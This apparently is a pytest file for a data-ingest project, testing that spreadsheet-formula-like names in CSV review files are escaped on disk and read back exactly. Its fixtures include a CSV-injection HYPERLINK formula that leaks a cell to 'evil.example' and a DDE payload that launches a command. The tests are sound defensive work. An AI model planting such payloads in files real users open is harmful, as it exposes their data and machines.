"""Review decisions (data/reviews/*.csv) are CSV files people open in spreadsheets: a name that begins like a
formula is stored escaped and read back exact (issue 18, 9). dbt reads them back the same way (the unit test
`review_names_that_begin_like_formulas_come_back_exact` on stg_reviews__decisions)."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl

from ingest.core.masters import MasterData
from ingest.core.reviews import IGNORED, SKU_ALIASES, ReviewStore

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "+cmd|' /C calc'!A0"


def test_formula_names_are_escaped_on_disk_and_exact_when_read(tmp_path: Path) -> None:
    store = ReviewStore(tmp_path / "reviews")
    store.confirm_sku("D001", HYPERLINK, "SKU0001", by="=ops")
    store.ignore("sku", "D001", DDE, note="@SUM(1)", by="ops")
    store.ignore("sku", "D001", "-5 free", note="'quoted already", by="ops")

    with (tmp_path / "reviews" / SKU_ALIASES).open(newline="", encoding="utf-8") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["alias"] == "'" + HYPERLINK and row["decided_by"] == "'=ops" and row["sku_code"] == "SKU0001"
    raw = (tmp_path / "reviews" / IGNORED).read_text(encoding="utf-8")
    assert "'+cmd|" in raw and "'@SUM(1)" in raw and "'-5 free" in raw
    assert "''quoted already" not in raw  # text a spreadsheet shows as text is left alone

    assert store.sku_aliases().row(0, named=True)["alias"] == HYPERLINK
    assert store.sku_aliases().row(0, named=True)["decided_by"] == "=ops"
    assert set(store.ignored()["name"]) == {DDE, "-5 free"}
    assert set(store.ignored()["note"]) == {"@SUM(1)", "'quoted already"}


def test_a_decision_on_a_formula_name_replaces_the_earlier_one_and_maps_lines(tmp_path: Path) -> None:
    store = ReviewStore(tmp_path / "reviews")
    store.confirm_sku("D001", HYPERLINK, "SKU0002", by="ops")
    store.confirm_sku("D001", HYPERLINK, "SKU0001", by="ops")
    assert store.sku_aliases()["sku_code"].to_list() == ["SKU0001"]

    skus = pl.DataFrame(
        {"sku_code": ["SKU0001"], "sku_name": ["Biscuit"], "units_per_case": [48], "ean": [None]},
        schema={"sku_code": pl.String, "sku_name": pl.String, "units_per_case": pl.Int64, "ean": pl.String},
    )
    masters = MasterData(skus=skus, aliases=store.sku_aliases().select("distributor_code", "alias", "sku_code"))
    lines = pl.DataFrame({"item_name": [HYPERLINK]})
    assert masters.resolve(lines, "D001", ["item_name"])["sku_code"].to_list() == ["SKU0001"]
